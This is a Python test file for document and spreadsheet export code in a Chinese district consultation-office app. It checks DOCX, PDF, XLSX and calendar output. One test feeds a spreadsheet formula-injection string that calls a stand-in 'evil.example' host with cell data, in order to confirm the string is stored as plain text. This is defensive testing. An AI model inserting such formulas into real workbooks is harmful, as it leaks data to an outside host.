import io
import re
import subprocess
from datetime import date, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from docx import Document
from icalendar import Calendar

from core.documents import DocSpec, Heading, Table, render_docx, render_pdf
from core.exports import Column, build_xlsx
from core.ics import CalendarEvent, build_calendar
from core.tests.documents import libreoffice_text

SPEC = DocSpec(
    title="2022年度政治协商计划",
    number="同委办〔2022〕12号",
    issuer="中共厦门市同安区委办公室",
    issued_on=date(2022, 3, 1),
    blocks=[Heading("一、协商议题"), "全年安排协商议题十项。", Table(["序号", "议题"], [["1", "落实教育“双减”政策"]])],
)


def test_docx_reads_back_with_title_number_and_table():
    doc = Document(io.BytesIO(render_docx(SPEC)))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "同委办〔2022〕12号" in text and "2022年度政治协商计划" in text
    assert doc.tables[0].cell(1, 1).text == "落实教育“双减”政策"


def test_pdf_text_extracts_in_chinese(tmp_path):
    pdf = tmp_path / "plan.pdf"
    pdf.write_bytes(render_pdf(SPEC))
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "同委办〔2022〕12号" in text
    assert "双减" in text


def test_a_table_row_is_never_torn_across_two_pdf_pages(tmp_path):
    """The 2022 plan's topic 8 once began on one page (number, leader, department) and went on over the
    next (its name): a row that does not fit moves whole, so every page's table goes on with a new row
    (its number first, under the repeated header)."""
    names = ["三院上划过渡工作", "粮食生产安全", "社区网格化管理工作和基层治理体系建设", "落实教育双减政策"]
    departments = ["区卫生健康局", "区发展和改革局、区农业农村局", "区民政局、新民镇、区财政局、区人社局", "区教育局"]
    rows = [
        [str(i + 1), names[i % 4], "委处对口协商", "第四季度", "陈婷", "教科卫体委员会", departments[(i // 3) % 4]]
        for i in range(60)
    ]
    headers = ["序号", "协商议题", "协商形式", "时间", "牵头领导", "牵头委处", "参与部门"]
    pdf = tmp_path / "rows.pdf"
    pdf.write_bytes(render_pdf(DocSpec(title="2022年度协商计划", blocks=[Table(headers, rows)])))
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    pages = int(next(line.split()[-1] for line in info.splitlines() if line.startswith("Pages:")))
    assert pages >= 3  # the table runs over several pages
    for n in range(2, pages + 1):
        cmd = ["pdftotext", "-layout", "-f", str(n), "-l", str(n), str(pdf), "-"]
        lines = [line for line in subprocess.run(cmd, capture_output=True, text=True, check=True).stdout.splitlines()]
        body = [line for line in lines if line.strip() and not re.match(r"^\s*[序号]", line)]
        assert re.match(r"^\s*\d+\s", body[0]), (n, body[0])


def test_libreoffice_opens_the_docx(tmp_path):
    text = libreoffice_text(render_docx(SPEC), tmp_path, name="plan")
    assert "双减" in text


def test_ics_parses_back_with_timezone():
    tz = ZoneInfo("Asia/Shanghai")
    ics = build_calendar(
        [
            CalendarEvent(
                uid="meeting-1@xieshang",
                title="协商会",
                starts_at=datetime(2022, 6, 1, 9, tzinfo=tz),
                ends_at=datetime(2022, 6, 1, 11, tzinfo=tz),
                location="区政协会议室",
            )
        ],
        name="协商会议",
    )
    cal = Calendar.from_ical(ics)
    (event,) = cal.walk("VEVENT")
    assert str(event["summary"]) == "协商会"
    assert event.decoded("dtstart") == datetime(2022, 6, 1, 9, tzinfo=tz)
    assert event["dtstart"].params["TZID"] == "Asia/Shanghai"
    (vtimezone,) = cal.walk("VTIMEZONE")  # RFC 5545: a TZID without its VTIMEZONE is invalid
    assert vtimezone["tzid"] == "Asia/Shanghai"
    assert "TZOFFSETTO:+0800" in ics.decode()


@pytest.mark.django_db
def test_xlsx_reads_back_with_headers():
    content = build_xlsx(
        title="提案清单",
        columns=[Column("编号", lambda r: r[0]), Column("标题", lambda r: r[1])],
        rows=[(1, "关于…的建议")],
    )
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert ws["A1"].value == "提案清单"
    assert [c.value for c in ws[2]] == ["编号", "标题"]
    assert [c.value for c in ws[3]] == [1, "关于…的建议"]


@pytest.mark.django_db
def test_xlsx_writes_text_that_looks_like_a_formula_as_text():
    """An appeal titled =HYPERLINK(...) (anyone may send one) must not become a live formula in the
    workbook the office opens."""
    typed = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
    content = build_xlsx(title="群众诉求", columns=[Column("标题", lambda r: r)], rows=[typed, "=1+1"])
    ws = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [(c.value, c.data_type) for c in ws["A"][2:]] == [(typed, "s"), ("=1+1", "s")]


@pytest.mark.django_db
def test_control_characters_typed_into_a_title_do_not_break_the_docx_or_xlsx():
    """A vertical tab or escape pasted into a title used to make python-docx and openpyxl refuse the
    whole file (a 500 on every download carrying it); the rest of the text is kept."""
    title = "关于\x0b老旧小区\x1b加装电梯的建议"
    spec = DocSpec(
        title=title,
        number="〔2022〕\x011号",
        blocks=[Heading("一、\x08基本情况"), "正文\x0c内容", Table(headers=["项\x07"], rows=[["值\x02"]])],
    )
    text = "\n".join(p.text for p in Document(io.BytesIO(render_docx(spec))).paragraphs)
    assert "关于老旧小区加装电梯的建议" in text and "正文内容" in text and "一、基本情况" in text
    content = build_xlsx(title="清单", columns=[Column("标题", lambda r: r)], rows=[title])
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A3"].value == "关于老旧小区加装电梯的建议"
